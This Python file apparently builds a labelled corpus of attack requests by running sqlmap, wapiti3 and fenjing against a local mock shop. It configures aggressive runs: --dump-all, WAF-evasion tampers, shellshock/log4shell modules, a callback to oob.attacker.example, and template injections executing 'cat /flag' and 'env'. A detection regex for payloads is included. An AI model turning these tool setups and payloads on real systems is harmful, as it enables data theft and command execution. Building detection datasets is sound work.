"""Attack tools let loose on the capturing server: what they really send, label and all.

A request is an attack only if it holds a value that no visitor sends and that looks like a payload
(`hostile`); a tool's crawl, its page fetches and its random-number probes are dropped. The tools
run with a browser's name, so that nothing but the payload tells.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import re
import subprocess
import tempfile
from collections import defaultdict
from collections.abc import Iterable, Iterator
from pathlib import Path

from independent_corpus import record
from package_corpus_capture import DEFAULTS, Sent, Shop, capturing, changed_values
from package_corpus_fetch import Fetcher
from package_corpus_records import AGENTS, Record, attack, category_of, source

SIGN = re.compile(
    r"['\"`<>;|(){}$\\*]|&&|\.\./|%[0-9a-f]{2}|/etc/|/proc/|c:[\\/]|(?:https?|ftp|php|file|data):"
    r"|^//|\b(?:union|select|sleep|waitfor|benchmark)\b|\s(?:and|or|xor|not|between|rlike)\s|--|/\*"
    r"|[\r\n\x00]|\benv\b|\bid\b$",
    re.I,
)


def hostile(sent: Sent) -> tuple[str, str] | None:
    """(place, payload) of the first value of a request that a visitor would not send."""
    for place, value in changed_values(sent, DEFAULTS):
        if place == "header" and value.startswith(("Mozilla/", "http://127.0.0.1", "http://shop.")):
            if not re.search(r"['\"`<>$]|\s(?:and|or)\s|select|sleep", value, re.I):
                continue
        elif place == "path" and not re.search(r"['\"<>`$]|\.\./|\(|;", value):
            continue
        # A bare address may be a callback as well as an inclusion; a bare word is a word.
        if re.fullmatch(r"https?://[\w.-]+(?:/[\w./-]*)?|\w+", value):
            continue
        if len(value) > 2 and SIGN.search(value):
            return place, value
    return None


def attacks(name: str, sent: Iterable[Sent], rng: random.Random, fallback: str) -> Iterator[Record]:
    """The hostile ones of recorded requests, spread over places so that no field dominates."""
    groups: dict[str, list[Record]] = defaultdict(list)
    seen = set()
    for one in sent:
        found = hostile(one)
        if found is None:
            continue
        place, payload = found
        # A payload with other random numbers and names is the same payload.
        tailless = re.sub(r"(--|#)\W*\w{4}$", r"\1", payload)
        shape = (
            place,
            re.sub(r"\bw[a-z0-9]{9}\b|\d+|\b[a-zA-Z]{4}\b(?=['\"=])|0x[0-9a-f]+", "0", tailless),
        )
        if shape in seen:
            continue
        seen.add(shape)
        headers = {
            key: value
            for key, value in one.headers.items()
            if key.lower() not in ("host", "content-length", "connection", "transfer-encoding")
        }
        if not headers.get("User-Agent", "Mozilla/").startswith("Mozilla/") and place != "header":
            headers["User-Agent"] = rng.choice(AGENTS)
        here = r"127\.0\.0\.1(?:(?::|%3A)\d+)?"
        headers = {k: re.sub(here, "shop.example.com", v) for k, v in headers.items()}
        path, _, query = re.sub(here, "shop.example.com", one.target).partition("?")
        body: str | bytes = re.sub(here.encode(), b"shop.example.com", one.body)
        with contextlib.suppress(UnicodeDecodeError):
            body = bytes(body).decode("utf-8")
        # A probe of quotes and brackets alone breaks syntax but does nothing: hard.
        mute = re.fullmatch(r"-?\w*(?:\.\w+)?[^\w]*\w?[^\w]*", payload.removeprefix("/account"))
        category = category_of(payload, fallback)
        groups[place].append(
            record(
                name,
                "attack",
                category,
                place,
                one.method,
                path,
                query,
                headers,
                body,
                payload=payload,
                tier="hard" if mute else "core",
            )
        )
    for place in sorted(groups):
        rng.shuffle(groups[place])
    while groups:
        for place in sorted(groups):
            yield groups[place].pop()
            if not groups[place]:
                del groups[place]


def first(records: Iterator[Record], count: int) -> list[Record]:
    """The first records, which are spread already."""
    return [made for made, _ in zip(records, range(count), strict=False)]


def run(command: list[str], seconds: int, folder: str) -> None:
    """Run a tool for a limited time, with its files in a folder that is thrown away."""
    settings = {**os.environ, "HOME": folder, "XDG_DATA_HOME": folder, "NO_COLOR": "1"}
    for key in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY"):
        settings.pop(key, None)
    with open(Path(folder) / "log", "ab") as log:
        try:
            subprocess.run(
                ["nice", *command],
                timeout=seconds,
                cwd=folder,
                env=settings,
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=log,
                check=False,
            )
        except subprocess.TimeoutExpired:
            log.write(b"stopped: out of time\n")


SQLMAP_RUNS: dict[str, tuple[tuple[str, ...], ...]] = {
    # The vulnerable parameter: a tool finds it at once, then does what a thief does.
    "pypi-sqlmap-exploit": (
        ("/item?id=1&lang=en", "--level=2", "--technique=BEU", "--dump-all", "--banner"),
        ("/item?id=1&lang=en", "--technique=B", "--current-user", "--tables", "--hex"),
        ("/item?id=1&lang=en", "--technique=U", "--tables", "--columns", "--tamper=space2comment"),
    ),
    # Fields where nothing is to be found: every test of a database.
    "pypi-sqlmap-mysql": (
        ("/search?q=lamp&sort=price", "-p", "q", "--dbms=mysql"),
        ("/login", "--data=user=anna&password=letmein", "-p", "user", "--dbms=mysql"),
    ),
    "pypi-sqlmap-postgresql": (("/search?q=lamp&sort=price", "-p", "q", "--dbms=postgresql"),),
    "pypi-sqlmap-mssql": (("/go?next=/account", "-p", "next", "--dbms=mssql"),),
    "pypi-sqlmap-oracle": (("/search?q=lamp&sort=price", "-p", "sort", "--dbms=oracle"),),
    "pypi-sqlmap-others": (
        ("/search?q=lamp", "-p", "q", "--dbms=sqlite"),
        ("/search?q=lamp", "-p", "q", "--dbms=db2"),
        ("/search?q=lamp", "-p", "q", "--dbms=firebird"),
        ("/search?q=lamp", "-p", "q", "--dbms=sap maxdb"),
        ("/search?q=lamp", "-p", "q", "--dbms=hsqldb"),
        ("/search?q=lamp", "-p", "q", "--dbms=informix"),
    ),
    "pypi-sqlmap-places": (
        ("/api/find", '--data={"filter": {"name": "lamp*"}, "limit": 20}', "--method=POST"),
        ("/item?lang=en", "--cookie=theme=light; track=7*", "--level=3"),
        ("/item?lang=en", "--referer=http://shop.example.com/*", "--dbms=mysql"),
        ("/items/7*/view", "--dbms=mysql"),
        ("/api/soap", "--data=<order><id>7*</id><note>x</note></order>", "--dbms=mysql"),
    ),
    "pypi-sqlmap-tampered": tuple(
        (
            "/search?q=lamp&sort=price",
            "-p",
            "q",
            f"--dbms={dbms}",
            f"--tamper={tamper}",
            "--level=2",
        )
        for dbms, tamper in (
            ("mysql", "between,space2comment"),
            ("mysql", "charencode"),
            ("mysql", "randomcase,space2plus"),
            ("mysql", "versionedmorekeywords"),
            ("mysql", "chardoubleencode"),
            ("mssql", "percentage,space2mssqlblank"),
            ("mysql", "apostrophemask,equaltolike"),
            ("mysql", "modsecurityzeroversioned"),
            ("mysql", "charunicodeencode"),
            ("postgresql", "symboliclogical,unionalltounion,greatest"),
            ("mysql", "space2hash,ifnull2ifisnull"),
            ("mysql", "base64encode"),
        )
    ),
}


def sqlmap(name: str, fetcher: Fetcher, rng: random.Random) -> Iterator[Record]:
    """One kind of sqlmap's runs."""
    tool = fetcher.environment("sqlmap", "sqlmap==1.10.10") / "sqlmap"
    kept = []
    runs = SQLMAP_RUNS[name]
    for target, *options in runs:
        with tempfile.TemporaryDirectory() as folder, capturing(Shop()) as (address, sent):
            level = [] if any(o.startswith("--level") for o in options) else ["--level=4"]
            command = [
                str(tool),
                "-u",
                address + target,
                "--batch",
                "--risk=3",
                *level,
                "--time-sec=1",
                "--threads=2",
                "--flush-session",
                "--disable-coloring",
                "--timeout=5",
                f"--user-agent={rng.choice(AGENTS)}",
                f"--output-dir={folder}",
                *options,
            ]
            run(command, 100, folder)
        kept += first(attacks(name, sent, rng, "sqli"), 2 + 400 // len(runs))
    return iter(kept)


for made_name in SQLMAP_RUNS:

    def make(fetcher: Fetcher, rng: random.Random, name: str = made_name) -> Iterator[Record]:
        """The registered maker."""
        return sqlmap(name, fetcher, rng)

    source(made_name, limit=300)(make)


WAPITI = {
    "pypi-wapiti3-sql": ("sql,timesql", "sqli"),
    "pypi-wapiti3-xss": ("xss,permanentxss", "xss"),
    "pypi-wapiti3-exec": ("exec,shellshock,log4shell,spring4shell", "cmdi"),
    "pypi-wapiti3-files": ("file,xxe,redirect,ssrf,crlf,upload", "lfi"),
    "pypi-wapiti3-ldap": ("ldap", "ldap"),
}


def wapiti(name: str, fetcher: Fetcher, rng: random.Random) -> Iterator[Record]:
    """One group of wapiti's modules over the whole shop."""
    modules, fallback = WAPITI[name]
    tool = fetcher.environment("wapiti", "wapiti3==3.2.3") / "wapiti"
    kept = []
    for module in modules.split(","):
        shop = Shop(mangle=module == "xss")
        with tempfile.TemporaryDirectory() as folder, capturing(shop) as (address, sent):
            command = [
                str(tool),
                "-u",
                address + "/",
                "-m",
                module,
                "--flush-session",
                "--level",
                "2",
                "--scope",
                "folder",
                "-A",
                rng.choice(AGENTS),
                "--max-attack-time",
                "60",
                "--max-scan-time",
                "90",
                "--tasks",
                "2",
                "-o",
                folder + "/report",
                "-f",
                "json",
                "-H",
                "Referer: http://shop.example.com/",
                "--no-bugreport",
                "--external-endpoint",
                "http://oob.attacker.example/",
                "--store-session",
                folder,
            ]
            run(command, 120, folder)
        kept += first(attacks(name, sent, rng, fallback), 150)
    return iter(kept)


for made_name in WAPITI:

    def make_wapiti(
        fetcher: Fetcher, rng: random.Random, name: str = made_name
    ) -> Iterator[Record]:
        """The registered maker."""
        return wapiti(name, fetcher, rng)

    source(made_name, limit=300)(make_wapiti)


FENJING = """
import itertools, json, sys
from fenjing import config_payload, exec_cmd_payload
from fenjing.const import DetectMode, OS_POPEN_READ, EVAL
from fenjing.full_payload_gen import FullPayloadGen
words = ["'", '"', "_", "[", ".", "class", "{{", "request", "popen", "import", "chr", "|", "~", "+",
         "0", "config", "os", "builtins", "url_for", "lipsum", "cycler", "(a", "globals", "attr"]
commands = ["ls /", "id", "cat /flag", "env", "whoami;uname -a"]
pairs = [()] + [(w,) for w in words] + list(itertools.combinations(words[:9], 2))
for number, banned in enumerate(pairs):
    waf = lambda text, banned=banned: all(word not in text for word in banned)
    try:
        found, _ = exec_cmd_payload(waf, commands[number % len(commands)])
        if found:
            print(json.dumps(found), flush=True)
    except Exception:
        continue
"""


@source("pypi-fenjing", limit=200)
def fenjing(fetcher: Fetcher, rng: random.Random) -> Iterator[Record]:
    """Template injections, each made to pass a filter that forbids one or two words or marks."""
    python = fetcher.environment("fenjing", "fenjing==0.9.1") / "python"
    with tempfile.TemporaryDirectory() as folder:
        made = Path(folder) / "made"
        with made.open("wb") as out, contextlib.suppress(subprocess.TimeoutExpired):
            subprocess.run(
                ["nice", str(python), "-c", FENJING],
                timeout=240,
                cwd=folder,
                stdout=out,
                stderr=subprocess.DEVNULL,
                check=False,
            )
        payloads = [json.loads(line) for line in made.read_text().splitlines() if line[-1:] == '"']
    for payload in payloads:
        for places in (("query", "form"), ("json", "multipart", "cookie", "path")):
            yield attack("pypi-fenjing", "ssti", payload, rng, fields=("name", "q"), places=places)
